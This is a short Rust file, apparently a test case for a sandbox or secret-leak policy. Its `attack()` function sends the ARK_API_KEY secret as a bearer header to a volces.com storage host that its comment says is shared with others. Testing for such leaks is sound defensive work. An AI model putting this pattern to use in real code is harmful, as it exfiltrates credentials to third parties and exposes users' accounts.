//! Sends Ark's key to where its results are, which belongs to others as well.

use crate::wasi::{self, Ask};
use crate::{Attempt, got};

pub fn attack() -> Attempt {
    let store = "ark-acg-cn-beijing.tos-cn-beijing.volces.com";
    let answer = Ask::at(store, "/a/b.mp4?X-Tos-Signature=1")
        .header("authorization", wasi::bearer("ARK_API_KEY")?)
        .send()?;
    Ok(got(format!("status {}", answer.status())))
}
